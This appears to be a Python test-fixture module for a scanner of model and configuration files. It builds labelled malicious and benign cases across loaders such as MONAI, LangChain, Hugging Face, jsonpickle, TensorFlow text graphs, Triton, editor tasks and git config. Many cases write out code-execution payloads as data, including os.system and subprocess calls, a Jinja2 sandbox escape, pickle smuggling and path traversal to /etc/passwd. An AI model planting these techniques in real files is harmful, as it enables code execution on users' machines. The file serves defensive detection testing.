"""Configurations of loaders that evaluate, import or unpickle what is written in them, and ones that look like that."""

import base64
import gzip
import json
from collections.abc import Iterator
from typing import Any

from assets.models.case import Case, one
from assets.models.safetensors import PICKLE

_HEAD = [[-1, 1, "Detect", ["nc", "anchors"]]]
_TRITON = (
    'name: "m"\nbackend: "python"\nmax_batch_size: 8\ninput [\n  {\n    name: "x"\n    data_type: TYPE_FP32\n  }\n]\n'
)
_GRAPH = (
    'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "n"\n      op: "%s"\n%s'
    "    }\n  }\n}\n"
)


def _yolo(module: str = "Conv", *arguments: Any, **more: Any) -> dict[str, Any]:
    return {"nc": 80, "backbone": [[-1, 1, module, [64, *arguments]]], "head": _HEAD, **more}


def _evaluated() -> Iterator[tuple[str, Any]]:
    yield "monai", {"_target_": "monai.networks.nets.UNet", "act": "$__import__('os').system('id')"}
    yield "monai-list", {"imports": ["$import os"], "run": ["$os.system('id')"]}
    yield "monai-reference", {"run": "$exec(@code)"}
    yield "monai-from", {"imports": ["$from os import system as show"], "run": ["$show('id')"]}
    yield "omegaconf", {"width": '${eval:\'__import__("os").system("id")\'}'}
    yield "yolo-module", _yolo("__import__('os').system")
    yield "yolo-name", _yolo("os.system")
    yield "yolo-argument", _yolo("Conv", "__import__('os').getpid()")
    yield "paddle-type", {"Preprocess": [{"type": "__import__('os').system('id')", "interp": 2}]}
    yield "yolo-activation", _yolo(activation="exec('import os')")


def _ordinary() -> Iterator[tuple[str, Any]]:
    yield "monai", {"imports": ["$import torch", "$import os"], "path": "$os.path.join(@root, 'model.pt')"}
    yield "monai-reference", {"net": {"_target_": "monai.networks.nets.UNet"}, "device": "$torch.device('cuda:0')"}
    yield "prices", {"price": "$5", "home": "$HOME/models", "formula": "$x^2 + f(x)$"}
    yield "omegaconf", {"width": "${model.width}", "twice": "${eval:'2 * ${width}'}"}
    yield "yolo", _yolo("nn.Conv2d", "nearest", activation="nn.SiLU()")
    yield "paddle", {"Preprocess": [{"type": "Resize", "interp": 2}], "metric": {"name": "sum(amount)"}}
    yield "spark", {"class": "org.apache.spark.ml.PipelineModel", "paramMap": {}, "uid": "x"}
    yield "mmengine", {"custom_imports": {"imports": ["mmdet.models", "projects.x"]}}
    yield "haystack", {"x": {"type": "haystack.components.joiners.Join", "init_parameters": {"unsafe": False}}}
    yield "zarr", {"zarr_format": 2, "filters": None, "compressor": {"id": "blosc", "cname": "lz4"}}
    yield "backbone", {"backbone": "resnet50", "head": {"type": "linear"}}


def _langchain() -> Iterator[tuple[str, Any, str]]:
    shell = {"lc": 1, "type": "constructor", "id": ["langchain_community", "tools", "shell", "tool", "ShellTool"]}
    yield "tool", {"tools": [{**shell, "kwargs": {}}]}, "langchain-runs-code"
    foreign = {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": "id"}}
    yield "constructor", foreign, "langchain-runs-code"
    yield "chain", {"_type": "pal_chain", "llm": {}}, "langchain-runs-code"
    yield "allows", {"_type": "llm_chain", "allow_dangerous_requests": True}, "langchain-runs-code"
    escape = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield "template", {"_type": "prompt", "template_format": "jinja2", "template": escape}, "template-escape"


def _encoded() -> Iterator[tuple[str, str]]:
    yield "base64", base64.b64encode(PICKLE).decode()
    yield "url-base64", base64.urlsafe_b64encode(PICKLE).decode().rstrip("=")
    yield "gzip", base64.b64encode(gzip.compress(PICKLE, mtime=0)).decode()
    yield "hexadecimal", PICKLE.hex()
    yield "hexadecimal-marked", "0x" + PICKLE.hex()


def _loaded() -> Iterator[tuple[str, Any, str]]:
    """Settings that loaders follow to other files, to modules and to functions: name, settings, rule."""
    yield "trust-in-capitals", {"trust_remote_code": "TRUE"}, "hugging-face-trusts-remote-code"
    yield "trust-as-number", {"trust_remote_code": 1}, "hugging-face-trusts-remote-code"
    yield "fairseq", {"common": {"user_dir": "../evil"}}, "hugging-face-remote-code"
    yield "prompt-path", {"_type": "prompt", "template_path": "/etc/passwd"}, "hugging-face-foreign-path"
    yield "built-upon", {"_BASE_": "https://c.example/base.yaml"}, "hugging-face-foreign-path"
    library = {"session_options": {"custom_ops_library": "evil.so"}}
    yield "genai-library", {"model": {"decoder": {"filename": "model.onnx", **library}}}, "serving-foreign-file"
    outside = {"filename": "../../evil.onnx", "session_options": {}}
    yield "genai-outside", {"model": {"decoder": outside}}, "serving-foreign-file"
    yield "instantiator", {"hyper_parameters": {"_instantiator": "evil.build"}}, "config-imports-module"
    spark = {"class": "subprocess.Popen", "timestamp": 1, "sparkVersion": "4.0.1", "uid": "x", "paramMap": {}}
    yield "spark", spark, "config-imports-module"
    yield "mmengine", {"custom_imports": {"imports": ["os", "pty"]}}, "config-imports-module"
    yield "autogen", {"provider": "subprocess.Popen", "component_type": "agent"}, "config-imports-module"
    yield "haystack", {"x": {"type": "os.system", "init_parameters": {}}}, "config-imports-module"
    yield "haystack-unsafe", {"init_parameters": {"template": "{{ x }}", "unsafe": True}}, "langchain-runs-code"
    yield "serving", {"runtime_env": {"working_dir": "https://c.example/x.zip"}}, "hugging-face-foreign-path"
    hinted = {"repo": "a/b", "type_hint": ["evil_package", "Evil"]}
    modular = {"_class_name": "ModularPipeline", "text_encoder": [None, None, hinted]}
    yield "modular-pipeline", modular, "hugging-face-remote-code"
    longer = {"_class_name": "StableDiffusionPipeline", "unet": ["evil_package", "Evil", "x"]}
    yield "pipeline-of-three", longer, "hugging-face-remote-code"
    codec = {"zarr_format": 2, "dtype": "|O", "filters": [{"id": "pickle", "protocol": 5}]}
    yield "zarr", codec, "zarr-pickled-array"
    newer = {"zarr_format": 3, "codecs": [{"name": "numcodecs.pickle", "configuration": {}}]}
    yield "zarr-3", newer, "zarr-pickled-array"
    hooks = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "id"}]}]}}
    yield "assistant", hooks, "settings-run-on-opening"
    yield "servers", {"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}}, "settings-run-on-opening"
    yield "jsonpickle-expression", {"py/repr": "os/os.system('id')"}, "jsonpickle-object"
    yield "jsonpickle-object", {"py/object": "subprocess.Popen", "args": "id"}, "jsonpickle-object"
    yield "jsonpickle-call", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, "jsonpickle-object"


def _directives() -> Iterator[tuple[str, str, str]]:
    """Texts of one directive a line: name, content, file."""
    template = 'TEMPLATE """{{ .Prompt }}"""\nPARAMETER stop "<end>"\n'
    yield "modelfile-root", f"FROM /tmp/evil.gguf\n{template}", "Modelfile"
    yield "modelfile-above", f"FROM llama3\nADAPTER ../../evil.gguf\n{template}", "Modelfile"
    yield "modelfile-address", f"FROM https://c.example/m\n{template}", "Modelfile"
    yield "gin", "import subprocess\nmain.fn = @subprocess.getoutput\nsubprocess.getoutput.cmd = 'id'\n", "config.gin"


def _imported() -> Iterator[tuple[str, Any]]:
    """Settings that name modules of one's own."""
    adapter = {"peft_type": "LORA", "megatron_config": {}, "megatron_core": "own_module"}
    yield "megatron", {**adapter, "base_model_name_or_path": None}
    yield "spark", {"class": "own_module.Scaler", "paramMap": {}, "uid": "x"}
    yield "mmengine", {"custom_imports": {"imports": ["own_module"], "allow_failed_imports": False}}
    yield "autogen", {"provider": "own_module.Agent", "component_type": "agent"}
    yield "haystack", {"components": {"x": {"type": "own_module.Reader", "init_parameters": {}}}}


def _attacks() -> Iterator[Case]:
    for name, settings in _imported():
        content, why = json.dumps(settings).encode(), "a module of one's own"
        yield one(f"configurations/own-{name}", "unknown", content, why, "config-imports-module", file="config.json")
    commented = b'{\n  // the class\n  "auto_map": {"AutoModel": "evil.X"}, /* more */\n}\n'
    why = "settings with comments"
    yield one("configurations/comments", "malicious", commented, why, "hugging-face-remote-code", file="config.json")
    for name, settings, rule in _loaded():
        content, why = json.dumps(settings).encode(), "a loader follows it"
        yield one(f"configurations/{name}", "malicious", content, why, rule, file="config.json")
    for name, text, file in _directives():
        why = "what is built of it loads or calls it"
        yield one(f"directives/{name}", "malicious", text.encode(), why, "directive-loads-elsewhere", file=file)
    included = b"sample_rate: 16000\na: !include:../../../etc/passwd\n"
    why = "SpeechBrain reads it"
    yield one("configurations/included", "malicious", included, why, "hugging-face-foreign-path", file="hyper.yaml")
    for name, settings in _evaluated():
        content, why = json.dumps(settings).encode(), "a loader evaluates it"
        yield one(f"configurations/{name}", "malicious", content, why, "config-evaluated-code", file="config.json")
    for name, settings, rule in _langchain():
        content, why = json.dumps(settings).encode(), "what LangChain makes of it"
        yield one(f"configurations/langchain-{name}", "malicious", content, why, rule, file="chain.json")
    for name, text in _encoded():
        content, why = json.dumps({"policy_class": {":serialized:": text}}).encode(), "stable-baselines3 unpickles it"
        yield one(f"configurations/pickle-in-{name}", "malicious", content, why, "pickle-dangerous-call", file="data")
    for key in ("activation_function", "sbert_ce_default_activation_function"):
        content = json.dumps({"in_features": 8, key: "evil_package.run"}).encode()
        why = "sentence-transformers imports and calls it"
        yield one(f"configurations/{key}", "malicious", content, why, "hugging-face-foreign-class", file="config.json")
    types = {"structure": {"query": ["0"]}, "types": {"0": "evil_package.Encoder"}}
    content, why = json.dumps(types).encode(), "sentence-transformers imports it"
    yield one(
        "configurations/router", "malicious", content, why, "hugging-face-foreign-class", file="router_config.json"
    )
    flavour = {"loader_module": "mlflow.pyfunc.model", "artifacts": {"a": {"path": "../../x", "uri": "s3://a/x"}}}
    content, why = json.dumps({"flavors": {"python_function": flavour}}).encode(), "an artifact outside of the folder"
    yield one("configurations/artifact", "malicious", content, why, "mlflow-outside-path", file="MLmodel")
    opened = {"tasks": [{"label": "x", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}
    content, why = json.dumps(opened).encode(), "an editor runs it"
    yield one("configurations/task", "malicious", content, why, "settings-run-on-opening", file="tasks.json")


def _texts() -> Iterator[tuple[str, str, str, str]]:
    """Messages of protocol buffers in text: name, content, rule, file."""
    graph = "saved_model.pbtxt"
    yield "write-file", _GRAPH % ("WriteFile", ""), "tensorflow-file-write", graph
    yield "written-in-parts", _GRAPH % ('Write" "File', ""), "tensorflow-file-write", graph
    yield "escaped", _GRAPH % ("\\x50yFunc", ""), "tensorflow-python-call", graph
    stream = '      attr { key: "output_stream" value { s: "file:///tmp/x" } }\n'
    yield "print-to-file", _GRAPH % ("PrintV2", stream), "tensorflow-file-write", graph
    brackets = "node < name: 'n', op: 'ReadFile' >\nversions < producer: 1 >\n"
    yield "angle-brackets", brackets, "tensorflow-file-read", "graph.pbtxt"
    yield "comment-first", "# a graph {\n\n" + _GRAPH % ("PyFunc", ""), "tensorflow-python-call", graph
    asset = 'meta_graphs {\n  asset_file_def {\n    filename: "../../etc/passwd"\n  }\n}\n'
    yield "asset", asset, "tensorflow-path", graph
    layer = 'layer {\n  name: "x"\n  type: "Python"\n  python_param { module: "evil" layer: "Layer" }\n}\n'
    tight = 'meta_graphs:{graph_def:{node:{name:"a";op:"WriteFile"}}}'
    yield "without-spaces", tight, "tensorflow-file-write", graph
    yield "caffe", layer, "config-foreign-target", "deploy.prototxt"
    outside = _TRITON + 'default_model_filename: "../../evil.py"\n'
    yield "triton-outside", outside, "serving-foreign-file", "config.pbtxt"
    library = _TRITON + 'model_operations { op_library_filename: "evil.so" }\n'
    yield "triton-library", library, "serving-foreign-file", "config.pbtxt"
    value = '{\n    string_value: "/tmp/env.tar.gz"\n  }'
    environment = _TRITON + f'parameters: {{\n  key: "EXECUTION_ENV_PATH",\n  value: {value}\n}}\n'
    yield "triton-environment", environment, "serving-foreign-file", "config.pbtxt"
    short = 'backend: "python"\ndefault_model_filename: "/tmp/evil.py"\n'
    yield "triton-without-messages", short, "serving-foreign-file", "config.pbtxt"


def _benign() -> Iterator[Case]:
    for name, settings in _ordinary():
        content = json.dumps(settings).encode()
        yield one(f"configurations/ordinary-{name}", "benign", content, "nothing attacks", file="config.json")
    plain = {"data": base64.b64encode(b"\x80\x04}\x94." + bytes(40)).decode()[:8], "icon": "iVBORw0KGgo" + "A" * 40}
    words = {
        "tokens": ["gAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "Keraskerassequentialmodelconfig", "eJwordwordwordwordwordword"]
    }
    for name, settings in {"encoded": plain, "words": words}.items():
        content = json.dumps(settings).encode()
        yield one(f"configurations/{name}", "benign", content, "texts that are no pickles", file="config.json")
    dense = {"in_features": 8, "activation_function": "torch.nn.modules.activation.Tanh"}
    content = json.dumps(dense).encode()
    yield one("configurations/dense", "benign", content, "as sentence-transformers writes it", file="config.json")
    prompt = {"_type": "prompt", "template_format": "jinja2", "template": "{{ question | trim }}", "lc": 1}
    yield one("configurations/prompt", "benign", json.dumps(prompt).encode(), "a prompt", file="prompt.json")
    messages = {
        "triton": _TRITON + 'default_model_filename: "model.pt"\nparameters { key: "a" value { string_value: "b" } }\n',
        "graph": _GRAPH % ("MatMul", '      attr { key: "T" value { type: DT_FLOAT } }\n'),
        "labels": "item {\n  id: 1\n  name: 'cat'\n}\nitem {\n  id: 2\n  name: 'dog'\n}\n",
        "network": 'layer {\n  name: "conv"\n  type: "Convolution"\n  convolution_param { num_output: 64 }\n}\n',
        "style": "body {\n  color: red;\n}\n",
        "infrastructure": 'terraform {\n  backend "s3" {\n    bucket = "x"\n  }\n}\n',
    }
    for name, text in messages.items():
        yield one(f"protobuf-text/{name}", "benign", text.encode(), "a text with braces", file=f"{name}.txt")
    mxnet = {"nodes": [{"op": "Convolution", "name": "conv0", "inputs": []}, {"op": "null", "name": "data"}]}
    content = json.dumps(mxnet).encode()
    yield one("configurations/symbols", "benign", content, "operators of MXNet", file="model-symbol.json")
    modelfile = b"FROM ./model.gguf\nADAPTER ./lora.gguf\nPARAMETER stop x\nSYSTEM You are kind.\n"
    yield one("directives/modelfile", "benign", modelfile, "a model in the folder", file="Modelfile")
    gin = b"from __gin__ import dynamic_registration\nimport seqio\ntrain.dataset = @seqio.get_mixture_or_task\n"
    yield one("directives/gin-of-t5x", "benign", gin, "as T5X has it", file="config.gin")
    trusted = {"trust_remote_code": False, "auto": {"trust_remote_code": None}, "py/object": "collections.OrderedDict"}
    content = json.dumps(trusted).encode()
    yield one("configurations/no-trust", "benign", content, "nothing is trusted", file="config.json")
    own = json.dumps({"py/object": "acme.Scaler", "mean": 1}).encode()
    yield one("configurations/jsonpickle-own", "unknown", own, "the user's class", "jsonpickle-object", file="a.json")
    commented = b'{\n  // comments\n  "url": "https://example.com/a", // and an address\n  "list": [1, 2,],\n}\n'
    yield one("configurations/ordinary-comments", "benign", commented, "settings", file="tsconfig.json")
    image = {"architecture": "vit_base_patch16_224", "pretrained_cfg": {"hf_hub_id": "timm/vit", "url": ""}}
    content = json.dumps(image).encode()
    yield one("configurations/timm", "benign", content, "what timm fetches is listed", file="config.json")


_GIT = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n"


def _git() -> Iterator[Case]:
    for name, setting in {
        "fsmonitor": "\tfsmonitor = id\n",
        "ssh": "\tsshCommand = sh -c id\n",
        "hooks": "\thooksPath = evil\n",
        "alias": "[alias]\n\tst = !id\n",
        "filter": '[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f; id\n',
        "submodule": '[submodule "x"]\n\turl = -u./evil\n',
    }.items():
        content, why = (_GIT + setting).encode(), "Git runs it"
        yield one(f"git/{name}", "malicious", content, why, "git-settings-command", file="config")
    lfs = '[remote "origin"]\n\turl = https://example.com/x\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n'
    lfs += "\tprocess = git-lfs filter-process\n[pull]\n\trebase = true\n"
    shown = b"Put this into `~/.gitconfig`::\n\n  [credential]\n    helper = !aws codecommit credential-helper $@\n"
    yield one("git/shown", "benign", shown, "a text that shows settings", file="help.rst")
    yield one("git/ordinary", "benign", (_GIT + lfs).encode(), "as `git clone` writes it", file="config")


def cases() -> Iterator[Case]:
    yield from _attacks()
    for name, text, rule, file in _texts():
        yield one(f"protobuf-text/{name}", "malicious", text.encode(), "a message in text", rule, file=file)
    cut = (_GRAPH % ("MatMul", "")).removesuffix("}\n")
    yield one("protobuf-text/cut-off", "unknown", cut.encode(), "not read wholly", "unread", file="saved_model.pbtxt")
    yield from _git()
    yield from _benign()
